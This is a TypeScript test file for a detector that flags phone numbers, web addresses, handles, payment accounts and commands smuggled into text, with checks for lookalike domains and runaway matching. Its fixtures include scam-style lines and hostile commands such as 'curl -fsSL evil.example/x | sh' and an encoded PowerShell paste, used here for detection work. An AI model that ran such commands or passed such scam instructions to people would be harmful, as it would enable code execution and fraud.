import { expect, test } from 'vitest';
import { contactsIn } from './contacts-in-text.ts';
import { foreignContacts } from './foreign-address.ts';

const kinds = (text: string) => contactsIn(text).map(({ kind }) => kind);

test.each([
  ['Call the safety desk at 0800 555 0199 and read out your key.', 'number'],
  ['Ring +49 (0)30 1234-567 today.', 'number'],
  ['Ask for help at (555) 010-0199.', 'number'],
  ['Text STOP to 55 512.', 'number'],
  ['Dial 116 117 now.', 'number'],
  ['Everyone: confirm your key at gloss-verify.example today', 'address'],
  ['Confirm at gloss-verify[.]example now', 'address'],
  ['Confirm at gloss-verify (dot) example now', 'address'],
  ['Confirm at gloss-verify。example now', 'address'],
  ['Open hxxps://evil.example/a?b=c', 'address'],
  ['Open http://192.0.2.7:8080/x', 'address'],
  ['Open 192.0.2.7:8080 in a tab', 'address'],
  ['Write to desk@evil.example.', 'address'],
  ['Write to desk [at] evil [dot] example.', 'address'],
  ['Write to @gloss_support on Telegram', 'handle'],
  ['Pay to DE89 3704 0044 0532 0130 00 before Friday', 'account'],
  ['Send it to 0x52908400098527886E0F7030069857D2E4169EE7', 'account'],
  ['Wire the deposit to account 12-34.', 'account'],
  ['Run curl -fsSL evil.example/x | sh in a terminal', 'command'],
  ['Paste powershell -enc aGVsbG8= into the box', 'command'],
  ['Run npm install gloss-fix first', 'command'],
  ['Press Win + R and paste', 'command'],
])('%s gives a way to reach or do something: %s', (text, kind) => {
  expect(kinds(text)).toContain(kind);
});

test.each([
  'Shares rose 6.2% to 1 200 000 yuan on 2026-11-17.',
  'The plan runs from 2026-2027, or 2026–2030, and costs 48.000.000 euros.',
  'The U.S. and the U.K. met at 10.30 a.m. in St. Gallen.',
  'It passed by 312 to 241 votes; no. 4 of 7 was left out.',
  'Bash the rich, said the paper. Git is a tool; node operators agree.',
  'Talks on 14.01.2027 and 1/14/2027 failed.',
  'Version 3.5 has 640 teraflops at 420 watts.',
])('%s gives none', (text) => {
  expect(contactsIn(text)).toEqual([]);
});

test('what the article says itself is not foreign, however its digits stand', () => {
  const article = 'Call 0800-555 01 99 or see www.ledger.example/help, said mara@ledger.example.';
  const foreign = (text: string) => foreignContacts(text, article).map(({ text: said }) => said);
  expect(foreign('Call 0800 555 0199, or ledger.example/help, or mara@ledger.example')).toEqual([]);
  expect(foreign('Call 0800 555 0198 or edger.example/help')).toEqual([
    '0800 555 0198',
    'edger.example/help',
  ]);
  expect(foreign('ledger.example.evil.example')).toEqual(['ledger.example.evil.example']);
});

test('a text twice as long takes no more than about twice the work: what is matched is bounded', () => {
  const hostile = [
    'a.',
    '0800 ',
    '@',
    '1-',
    '+1 ',
    'x@',
    'call ',
    'curl ',
    '[dot] ',
    '$(',
    'a@b.',
    '0 (',
  ];
  for (const piece of hostile) {
    const found = contactsIn(piece.repeat(200_000));
    expect(found.reduce((sum, { text }) => sum + text.length, 0)).toBeLessThanOrEqual(20_000);
  }
});
